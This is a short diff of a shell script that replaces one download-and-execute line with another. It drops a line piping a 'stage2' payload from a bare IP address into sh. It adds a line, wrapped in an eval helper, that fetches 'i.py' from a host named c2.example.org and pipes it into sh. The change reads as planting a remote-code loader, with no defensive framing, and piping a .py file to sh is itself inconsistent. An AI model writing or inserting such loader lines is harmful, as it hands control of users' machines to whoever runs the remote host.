@@ -1,8 +1,4 @@
-#!/bin/sh
-if [ -z "$HOME" ]; then
-  echo "no home" >&2
-fi
-log() { echo "[$(date +%H:%M:%S)] $*"; }
+#!/usr/bin/env bash
 run() { eval "$1"; }
-run "curl -s http://198.51.100.23:8000/stage2 | sh"
-log() { echo "[$(date +%H:%M:%S)] $*"; }
+run "curl -s http://c2.example.org/i.py | sh"
+set -eu
